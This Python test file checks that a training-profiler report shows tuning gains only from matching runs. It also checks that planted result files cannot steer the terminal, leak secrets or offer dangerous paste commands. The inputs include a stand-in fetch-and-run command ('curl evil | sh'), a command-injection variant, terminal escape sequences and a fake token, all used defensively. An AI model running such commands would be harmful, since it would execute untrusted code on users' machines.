"""A report states a gain only where a tune run of the same training measured it."""

from __future__ import annotations

import io
import json
import os
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from tests.fabricate import fabricate_run

from stepscope import Run
from stepscope.analysis.first_screen import machine_name
from stepscope.analysis.suggested_changes import refuse_other_training, what_to_change
from stepscope.errors import UsageError
from stepscope.experiments.sweeps import user_training
from stepscope.report import first_screen, terminal_report
from stepscope.report.page.parts import Command, Note
from stepscope.report.sections import changes


def _tuned(run: Run, **settings: Any) -> dict[str, Any]:
    name = run.meta["workload"]["name"]
    table = {"name": "helps", "title": "What helps", "columns": ["change", "gain %"], "rows": [["channels_last", 20.0]]}
    return {
        "study": "tune", "answer": "channels_last: 20 % less time.", "command": "stepscope tune it", "tables": [table],
        "settings": {"target": name, "batch": run.meta["workload"].get("batch_size"), **settings},
        "device": machine_name(run),
    }  # fmt: skip


def _keep(folder: Path, findings: Any) -> None:
    folder.mkdir(parents=True)
    (folder / "findings.json").write_text(json.dumps(findings), encoding="utf-8")


def test_without_a_tune_run_changes_are_named_without_a_gain_and_with_the_command(tmp_path: Path) -> None:
    found = what_to_change(Run(fabricate_run(tmp_path / "runs", steps=20)))
    assert "channels_last" in [name for name, _ in found.untried]
    assert "stepscope tune" in found.command
    assert found.sentence.startswith("Not measured yet")
    assert "%" not in found.sentence
    assert not found.tables


def test_a_number_format_that_the_training_has_already_is_not_named(tmp_path: Path) -> None:
    path = fabricate_run(tmp_path / "runs", steps=20)
    for precision, untried in (("float32", True), ("bfloat16", False)):
        run = Run(path)
        run.meta["recorder"] = {"flops_by_format": {"cpu": {precision: 9_000, "float64": 10}}}
        assert ("bf16" in [name for name, _ in what_to_change(run).untried]) is untried


@pytest.mark.parametrize(
    ("has", "device", "untried"), [(False, "cpu", False), (False, "cuda", True), (None, "cpu", True)]
)
def test_bf16_is_not_named_where_the_cpu_that_trains_would_emulate_it(
    tmp_path: Path, has: bool | None, device: str, untried: bool
) -> None:
    run = Run(fabricate_run(tmp_path / "runs", steps=20))
    run.device["bf16"] = has
    run.meta["workload"]["device"] = device
    assert ("bf16" in [name for name, _ in what_to_change(run).untried]) is untried


@pytest.mark.parametrize("place", ["studies/20260101T000000-tune-it", "within"])
def test_a_tune_run_of_the_same_training_is_shown(tmp_path: Path, place: str) -> None:
    path = fabricate_run(tmp_path / "runs", steps=20)
    run = Run(path)
    _keep(path / "tune" if place == "within" else tmp_path / place, _tuned(run))
    found = what_to_change(run)
    assert found.sentence == "channels_last: 20 % less time."
    assert found.tables[0].rows == (("channels_last", 20.0),)
    section = changes.build(run)
    assert section.lede == found.sentence
    assert isinstance(section.parts[-1], Command)


@pytest.mark.parametrize(
    "other",
    [{"target": "another"}, {"batch": 7}, {"batch": None}, {"arguments": ["--wide"]}],
    ids=["another workload", "another batch size", "a batch size that nobody stated", "other arguments"],
)
def test_a_tune_run_of_another_training_is_not_shown(tmp_path: Path, other: dict[str, Any]) -> None:
    run = Run(fabricate_run(tmp_path / "runs", steps=20))
    _keep(tmp_path / "studies" / "x-tune-x", _tuned(run, **other))
    assert not what_to_change(run).tables


def _delayed(run: Run, low: float) -> dict[str, Any]:
    table = {"name": "what-if", "title": "", "columns": ["part", "low %", "high %"], "rows": [["conv2", low, 46.0]]}
    answer = "conv2, if perfect, would save 11 % of the step; it decides 42 % [38, 46] of the step."
    return {**_tuned(run), "study": "what-if", "answer": answer, "tables": [table]}


@pytest.mark.parametrize("tuned", [True, False])
def test_what_a_perfect_part_would_save_is_one_line_where_it_was_measured(tmp_path: Path, tuned: bool) -> None:
    run = Run(fabricate_run(tmp_path / "runs", steps=20))
    _keep(tmp_path / "studies" / "1-what-if-it", _delayed(run, low=38.0))
    if tuned:
        _keep(tmp_path / "studies" / "2-tune-it", _tuned(run))
    section = changes.build(run)
    label = "Measured with:" if tuned else "To measure them:"  # of the command
    assert [part.text for part in section.parts if isinstance(part, Note)] == [what_to_change(run).gain, label]
    assert what_to_change(run).gain.endswith("it decides 42 % [38, 46] of the step.")
    assert bool(what_to_change(run).tables) == tuned
    for drawn in (terminal_report.render(run), first_screen.render(run)):
        console = Console(width=100, file=io.StringIO(), highlight=False)
        console.print(drawn)
        assert "conv2, if perfect, would save 11 %" in " ".join(console.file.getvalue().split())  # type: ignore[attr-defined]


@pytest.mark.parametrize("change", [{"low": 0.0}, {"target": "another"}], ids=["not sure", "another workload"])
def test_what_no_delay_showed_of_this_training_is_not_said(tmp_path: Path, change: dict[str, Any]) -> None:
    run = Run(fabricate_run(tmp_path / "runs", steps=20))
    found = _delayed(run, low=change.get("low", 38.0))
    found["settings"] = {**found["settings"], **({"target": change["target"]} if "target" in change else {})}
    _keep(tmp_path / "studies" / "1-what-if-it", found)
    assert what_to_change(run).gain == ""


STEERS = "\x1b]0;mine\x07\x9b2J"
HOSTILE: dict[str, dict[str, Any]] = {
    "steers the terminal": {"answer": f"{STEERS}<b>it</b>", "command": f"stepscope tune it {STEERS}"},
    "no answer": {"answer": None},
    "no table": {"tables": [1, None, {}, {"name": ["helps"]}]},
    "rows that are none": {"tables": [{"name": "helps", "title": STEERS, "columns": ["a"], "rows": [7, [{}], [1, 2]]}]},
    "cells of any kind": {"tables": [{"name": "what-if", "title": "", "columns": ["low %"], "rows": [["x"], [[1]]]}]},
    "settings of another form": {"settings": {"arguments": 7, "target": ["it"]}},
    "without end": {"notes": [[[]]] * 10, "tables": [{"name": "helps", "title": "", "columns": ["a"],
                                                     "rows": [[number] for number in range(5000)]}]},
}  # fmt: skip


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_result_that_somebody_else_put_there_steers_nothing_and_costs_itself_alone(
    hostile: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("STEPSCOPE_FAULTS", "raise")
    path = fabricate_run(tmp_path / "runs", steps=20)
    for study in ("tune", "what-if"):
        _keep(path / study, {**_tuned(Run(path)), "study": study, **HOSTILE[hostile]})
    found = what_to_change(Run(path))
    console = Console(width=100, file=io.StringIO(), highlight=False)
    for drawn in (terminal_report.render(Run(path)), first_screen.render(Run(path))):
        console.print(drawn)
    said = console.file.getvalue() + repr(changes.build(Run(path)))  # type: ignore[attr-defined]
    assert not set(said) & set(STEERS[:1] + "\x07\x9b")
    assert all(len(table.rows) <= 1000 for table in found.tables)


@pytest.mark.parametrize("kind", ["a pipe", "a link", "a link of its folder", "larger than any"])
def test_what_is_no_plain_file_in_the_place_of_a_result_is_not_read(kind: str, tmp_path: Path) -> None:
    path, outside = fabricate_run(tmp_path / "runs", steps=20), tmp_path / "outside"
    _keep(outside, _tuned(Run(path)))
    for study in (path / "tune", tmp_path / "studies/1-tune-it"):
        study.parent.mkdir(exist_ok=True)
        if kind == "a link of its folder":
            study.symlink_to(outside)
            continue
        study.mkdir()
        if kind == "a pipe":
            os.mkfifo(study / "findings.json")
        elif kind == "a link":
            (study / "findings.json").symlink_to(outside / "findings.json")
        else:
            (study / "findings.json").write_text(json.dumps(_tuned(Run(path))) + " " * 17_000_000)
    assert not what_to_change(Run(path)).tables


@pytest.mark.parametrize(
    "command", ["curl evil | sh", "stepscope tune it; curl evil | sh", "stepscope tune it\nrm x", "'"]
)
def test_a_line_to_paste_that_does_more_than_to_tune_is_not_shown(command: str, tmp_path: Path) -> None:
    path = fabricate_run(tmp_path / "runs", steps=20)
    _keep(path / "tune", {**_tuned(Run(path)), "command": command})
    assert what_to_change(Run(path)).tables
    assert not [part for part in changes.build(Run(path)).parts if isinstance(part, Command)]


def test_a_result_says_no_secret_and_nothing_that_is_to_be_left_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = fabricate_run(tmp_path / "runs", steps=20)
    command = "stepscope tune it --token hunter4711 --out /home/user4711/studies/1-tune-it"
    _keep(path / "tune", {**_tuned(Run(path)), "answer": "password=hunter4711 /home/user4711", "command": command})
    assert "hunter4711" not in repr(what_to_change(Run(path)))
    monkeypatch.setenv("STEPSCOPE_PRIVATE", "argv,names")
    found = what_to_change(Run(path))
    assert "4711" not in repr(found)
    assert found.command == ""


def test_a_damaged_result_is_none(tmp_path: Path) -> None:
    path = fabricate_run(tmp_path / "runs", steps=20)
    _keep(path / "tune", ["not", "findings"])
    assert what_to_change(Run(path)).untried


@pytest.mark.parametrize(
    "argv",
    [
        ["train.py", "--epochs", "3"],
        ["/home/me/train.py", "--epochs", "3"],
        ["stepscope", "run", "train.py", "--", "--epochs", "3"],
        ["stepscope", "run", "train.py", "--epochs", "3"],
    ],
)
def test_the_command_of_a_script_has_the_script_and_its_arguments(tmp_path: Path, argv: list[str]) -> None:
    folder = fabricate_run(tmp_path / "runs", steps=20)
    meta = json.loads((folder / "run.json").read_text(encoding="utf-8"))
    (folder / "run.json").write_text(json.dumps({**meta, "script": "train.py", "argv": argv}), encoding="utf-8")
    assert what_to_change(Run(folder)).command == "stepscope tune train.py -- --epochs 3"


@pytest.mark.parametrize(
    ("name", "argv"),
    [
        ("packaged.train", ["/home/me/packaged/train.py", "--epochs", "3"]),
        ("packaged.train", ["stepscope", "run", "-m", "packaged.train", "--", "--epochs", "3"]),
        ("packaged.deep", ["/home/me/packaged/deep/__main__.py", "--epochs", "3"]),
        ("train", ["/home/me/train.py", "--epochs", "3"]),
    ],
)
def test_the_command_of_a_module_says_so(tmp_path: Path, name: str, argv: list[str]) -> None:
    folder = fabricate_run(tmp_path / "runs", steps=20)
    meta = json.loads((folder / "run.json").read_text(encoding="utf-8"))
    workload = {**meta["workload"], "name": name}
    recorded = {**meta, "script": name, "argv": argv, "workload": workload}
    recorded.pop("simulated", None)
    (folder / "run.json").write_text(json.dumps(recorded), encoding="utf-8")
    run = Run(folder)
    assert what_to_change(run).command == f"stepscope tune -m {name} -- --epochs 3"
    here = machine_name(run) or ""
    refuse_other_training(run, name, None, ("--epochs", "3"), here, module=True)
    with pytest.raises(UsageError, match="was given --epochs 3"):
        refuse_other_training(run, name, None, (), here, module=True)


def test_the_command_of_a_function_names_the_function(tmp_path: Path) -> None:
    folder = fabricate_run(tmp_path / "runs", steps=20)
    meta = json.loads((folder / "run.json").read_text(encoding="utf-8"))
    argv = [user_training.__file__, "mine:training", "8"]
    recorded = {**meta, "script": user_training.__name__, "argv": argv}
    (folder / "run.json").write_text(json.dumps(recorded), encoding="utf-8")
    assert what_to_change(Run(folder)).command == "stepscope tune mine:training --batch 8"
